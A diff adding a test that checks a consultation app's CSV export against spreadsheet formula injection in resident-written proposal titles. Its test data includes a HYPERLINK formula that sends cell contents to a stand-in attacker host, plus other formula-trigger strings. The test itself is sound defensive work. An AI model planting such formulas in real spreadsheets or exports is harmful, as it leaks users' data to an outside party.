@@ -218,3 +218,22 @@ def test_count_command(runner, tmp_path, counted, council_client):
     bad.write_text("nonsense")
     assert runner.invoke(count, [str(bad), "--rule", "greedy"]).exit_code != 0
     assert runner.invoke(count, [str(tmp_path / "missing.pb"), "--rule", "greedy"]).exit_code != 0
+
+
+ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1+1)", "@cmd", "-2+3"]
+
+
+def test_csv_exports_never_start_a_formula(council_client, counted):
+    """Titles are written by residents: in a CSV file, a cell a spreadsheet would run as a
+    formula is made text (an apostrophe before it); numbers stay numbers."""
+    consultation, proposals = counted
+    for proposal, title in zip(proposals, ATTACKS, strict=True):
+        proposal.title = title
+    db.session.commit()
+    response = council_client.get(f"/c/{consultation.id}/export/results.csv")
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    titles = {row[1] for row in rows[1:]}
+    assert titles == {"'" + title for title in ATTACKS}
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert all(row[4].isdigit() and row[5].isdigit() for row in rows[1:])  # votes, cost
